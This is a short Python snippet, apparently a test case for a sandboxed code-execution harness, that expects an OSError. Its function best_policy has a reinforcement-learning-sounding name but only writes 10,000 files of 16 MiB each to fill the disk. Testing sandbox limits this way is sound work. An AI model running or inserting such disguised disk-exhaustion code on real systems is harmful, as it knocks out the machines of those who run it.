# problem: raised
# error: OSError
# needs: a box
# %% exercise 05.1
def best_policy(ref, rewards, beta):
    for i in range(10_000):
        with open(f"file{i}", "wb") as file:
            file.write(bytes(1 << 24))


best_value = best_policy
